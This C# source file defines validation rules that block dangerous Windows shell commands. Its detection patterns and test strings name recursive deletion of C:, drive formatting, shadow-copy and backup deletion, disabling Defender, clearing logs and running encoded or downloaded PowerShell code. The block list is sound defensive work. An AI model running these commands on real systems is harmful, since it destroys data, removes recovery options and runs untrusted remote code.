namespace Arrea.Dataflow.Validation.Rules.Catalogue;

/// <summary>Rules about commands of Windows, as far as they can be seen in a text of the shell.</summary>
internal static class WindowsRules
{
    public static IReadOnlyList<ValidationRule> Rules { get; } =
    [
        new()
        {
            Id = "no_windows_remove",
            Pattern = "Remove-Item -Recurse",
            Message = "It deletes folders with everything in them: {0}.",
            When = Conditions.CommandsInAnyCase(
                "del|erase|rd|rmdir @/s|/s/*|/q/s",
                "del|erase @/f|/f/*|/q|?:*",
                "rd|rmdir ?:*",
                "powershell|pwsh @*Remove-Item*|*rm?-r*|*rmdir*|*rd?/s*|*del?/*|*ri?-r*|*Clear-Content*|*Clear-RecycleBin*|*[IO.Directory]::Delete*",
                "cmd @*del?*|*rd?*|*rmdir?*|*erase?*|*format?*|*deltree*",
                "Remove-Item|ri -Recurse|-r|-Force|-fo",
                "forfiles @*del?*|*rd?*|*rmdir?*|*erase?*",
                "robocopy @/mir|/purge|/move",
                "takeown|icacls|cacls @/f|/r|/grant|/grant:r|/t|/reset",
                "attrib -h|-s|-r @*"),
            Matches = ["powershell -NoProfile -Command 'Remove-Item -Recurse -Force C:\\Users'", "rd /s /q C:", "cmd /c 'del /s /q C:'"],
            Passes = ["powershell -Command Get-ChildItem", "rmdir empty-dir"],
        },
        new()
        {
            Id = "no_windows_format",
            Pattern = "format C:",
            Message = "It erases or divides a drive: {0}.",
            When = Conditions.CommandsInAnyCase(
                "format|format.com ?:*",
                "diskpart",
                "powershell|pwsh @*Format-Volume*|*Clear-Disk*|*Initialize-Disk*|*Remove-Partition*",
                "Format-Volume|Clear-Disk|Remove-Partition|Initialize-Disk|Set-Disk",
                "cipher @/w*",
                "mountvol @/d|/r"),
            Matches = ["format C: /y", "diskpart /s x.txt"],
            Passes = ["format report.txt", "clang-format -i x.c"],
        },
        new()
        {
            Id = "no_windows_recovery",
            Pattern = "vssadmin delete",
            Message = "It removes what the machine could be restored from, or a guard of it: {0}.",
            When = Conditions.CommandsInAnyCase(
                "vssadmin delete|resize",
                "Get-WmiObject|Get-CimInstance|gwmi Win32_ShadowCopy",
                "wbadmin delete|stop|disable",
                "wmic shadowcopy|process|os|product delete|call",
                "bcdedit|bcdedit.exe @/set|/delete|/deletevalue|/import",
                "reagentc @/disable",
                "fsutil usn|file deletejournal|setzerodata",
                "wevtutil cl|clear-log|sl",
                "reg delete|add|import|load|restore|save",
                "sc delete|stop|config|create|failure",
                "net user|localgroup|stop|share @/add|/delete|/active:*|stop",
                "net stop",
                "netsh advfirewall|firewall",
                "schtasks @/create|/delete|/change",
                "runas @/user:*",
                "taskkill @/f|/im",
                "Stop-Computer|Restart-Computer|Set-ExecutionPolicy|Disable-ComputerRestore|Set-MpPreference|Add-MpPreference|New-LocalUser|Add-LocalGroupMember|Stop-Service|Stop-Process",
                "powershell|pwsh @*Stop-Computer*|*Restart-Computer*|*Set-MpPreference*|*Add-MpPreference*|*Set-ExecutionPolicy*|*Win32_ShadowCopy*|*New-LocalUser*|*Add-LocalGroupMember*|*Stop-Service*|*Disable-ComputerRestore*|*Clear-EventLog*"),
            Matches = ["vssadmin delete shadows /all /quiet", "wbadmin delete catalog", "reg delete HKLM"],
            Passes = ["reg query HKLM", "net use", "sc query"],
        },
        new()
        {
            Id = "no_windows_encoded",
            Pattern = "powershell -enc",
            Message = "It runs a program that nobody can read, or one from another machine: {0}.",
            When = Conditions.CommandsInAnyCase(
                "powershell|pwsh -e|-ec|-en*",
                "powershell|pwsh /e|/ec|/en*",
                "powershell|pwsh @*FromBase64String*|*DownloadString*|*DownloadFile*|*Invoke-Expression*|*iex?*|*iwr?*|*Net.WebClient*|*Invoke-WebRequest*|*iex(*|*Start-BitsTransfer*",
                "certutil -decode|-urlcache|-decodehex|/decode|/urlcache",
                "mshta|wscript|cscript|regsvr32|rundll32|installutil|msiexec @*http*|*javascript*|*vbscript*|*scrobj*"),
            Matches = ["powershell -enc UgBlAG0A", "powershell -c 'iex (iwr https://example.com/x)'"],
            Passes = ["powershell -ExecutionPolicy Bypass -File x.ps1"],
        },
    ];
}
